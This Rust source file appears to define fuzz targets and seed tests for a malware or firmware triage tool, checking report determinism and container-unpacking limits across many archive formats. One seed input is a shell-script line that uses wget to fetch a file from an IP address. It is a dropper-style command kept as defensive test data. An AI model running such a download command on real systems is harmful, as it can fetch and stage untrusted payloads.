//! The entrances of the fuzz targets.

use crate::analyse::{NoRules, triage};
use crate::container::{Budget, Format, Unpacking};
use crate::limits::{DECODED_MAX, MEMBERS_MAX, UNPACKED_BYTES_MAX};
use crate::problems::Problems;
use crate::verdict::Outside;

/// Any bytes as a file.
pub fn file(bytes: &[u8]) {
    let report = triage(bytes, &NoRules, &Outside::default());
    assert_eq!(report, triage(bytes, &NoRules, &Outside::default()), "equal files have equal reports");
    assert!(report.samples.len() <= 1 + MEMBERS_MAX);
    for (number, sample) in report.samples.iter().enumerate() {
        assert!(sample.parent.is_none_or(|parent| parent < number), "a container stands before its members");
        assert!(sample.decoded.len() <= DECODED_MAX);
        let texts =
            sample.problems.iter().chain(&sample.name).chain(sample.findings.iter().map(|finding| &finding.value));
        assert!(texts.into_iter().all(|text| !text.contains(char::is_control)), "nothing of a sample is raw");
    }
}

/// A byte that chooses the format, and any bytes as such a container.
pub fn container(bytes: &[u8]) {
    let Some((format, bytes)) = bytes.split_first() else { return };
    let formats = [
        Format::Gzip,
        Format::Xz,
        Format::Bzip2,
        Format::Zip,
        Format::Tar,
        Format::Ar,
        Format::CpioNew,
        Format::CpioOld,
        Format::Squashfs,
        Format::UImage,
        Format::Trx,
    ];
    let mut budget = Budget::new();
    let (mut count, mut total) = (0, 0);
    let mut take = |_: &mut Budget, _: Option<&[u8]>, bytes: &[u8]| {
        count += 1;
        total += bytes.len() as u64;
    };
    let mut problems = Problems::default();
    let mut unpacking =
        Unpacking { budget: &mut budget, problems: &mut problems, take: &mut take, members: 0, bytes: 0 };
    unpacking.run(formats[usize::from(*format) % formats.len()], bytes);
    let (members, unpacked) = (unpacking.members, unpacking.bytes);
    assert!(count <= MEMBERS_MAX && count as u64 <= members);
    assert!(total == unpacked && total <= UNPACKED_BYTES_MAX);
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_few_files_to_begin_with() {
        for bytes in [
            &b""[..],
            b"\x7fELF",
            b"\x7fELF\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x02\0\x08\0\0\0\x01",
            b"PK\x05\x06\0\0\0\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0",
            b"070701zzzz",
            b"hsqs",
            b"HDR0",
            b"#!/bin/sh\nwget http://192.0.2.1/a\n",
        ] {
            super::file(bytes);
            for format in 0..11 {
                super::container(&[&[format], bytes].concat());
            }
        }
    }
}
